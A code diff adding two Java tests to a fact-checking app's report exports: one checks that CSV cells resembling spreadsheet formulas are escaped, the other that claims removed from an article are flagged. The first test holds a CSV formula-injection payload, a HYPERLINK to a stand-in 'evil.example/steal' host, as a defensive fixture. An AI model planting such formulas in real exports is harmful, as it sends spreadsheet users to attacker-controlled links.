@@ -61,6 +61,54 @@ class ReportTest {
     }
 
     @Test
+    void csvCellsThatLookLikeFormulasAreNeutralised() throws IOException {
+        TestUser editor = users.editor();
+        String outlet = "Outlet " + UUID.randomUUID();
+        String formula = "=HYPERLINK(\"http://evil.example/steal\",\"Click for the source\")";
+        approvedClaim(editor, outlet, formula, "ACCURATE");
+        Response csv = editor.api().queryParam("format", "csv").queryParam("outlet", outlet).get("/api/reports/verified-claims");
+        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(csv.asString().substring(1))).getRecords();
+        assertThat(records).hasSize(1);
+        assertThat(records.get(0).get("text")).isEqualTo("'" + formula);
+        for (CSVRecord record : records) {
+            for (String cell : record) {
+                assertThat(cell).as("no cell may start a formula").doesNotStartWith("=").doesNotStartWith("+")
+                        .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
+            }
+        }
+        // JSON is data, not a spreadsheet: the text stays as written.
+        editor.api().queryParam("format", "json").queryParam("outlet", outlet).get("/api/reports/verified-claims")
+                .then().body("claims[0].text", org.hamcrest.Matchers.equalTo(formula));
+        assertThat(Exports.cell("-5 percent")).isEqualTo("'-5 percent");
+        assertThat(Exports.cell("@handle")).isEqualTo("'@handle");
+        assertThat(Exports.cell("plain")).isEqualTo("plain");
+    }
+
+    @Test
+    void anApprovedClaimWhoseWordsLeftTheArticleIsFlaggedInEveryExport() throws IOException {
+        TestUser editor = users.editor();
+        String outlet = "Outlet " + UUID.randomUUID();
+        int claim = approvedClaim(editor, outlet, "The ferry is free for children.", "ACCURATE");
+        int article = editor.api().get("/api/claims/" + claim).then().extract().path("articleId");
+        org.quotecheck.support.BrowserSession page = editor.signIn();
+        String form = page.get("/articles/" + article + "/edit").asString();
+        java.util.regex.Matcher version = java.util.regex.Pattern.compile("name=\"version\" value=\"(\\d+)\"").matcher(form);
+        assertThat(version.find()).isTrue();
+        page.postForm("/articles/" + article + "/edit", "/articles/" + article, Map.of("title", "Report edited",
+                "outlet", outlet, "body", "Prime Minister Sanae Takaichi spoke about ferries.", "version", version.group(1)))
+                .then().statusCode(303);
+        editor.api().queryParam("format", "json").queryParam("outlet", outlet).get("/api/reports/verified-claims")
+                .then().body("claims[0].id", org.hamcrest.Matchers.equalTo(claim))
+                .body("claims[0].textMissing", org.hamcrest.Matchers.equalTo(true));
+        Response csv = editor.api().queryParam("format", "csv").queryParam("outlet", outlet).get("/api/reports/verified-claims");
+        CSVRecord record = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(csv.asString().substring(1))).getRecords().get(0);
+        assertThat(record.get("text_missing")).isEqualTo("true");
+        assertThat(page.request().queryParam("outlet", outlet).get("/reports").asString()).contains("no longer in it");
+    }
+
+    @Test
     void csvParsesBackToTheApprovedClaims() throws IOException {
         TestUser editor = users.editor();
         String outlet = "Outlet " + UUID.randomUUID();
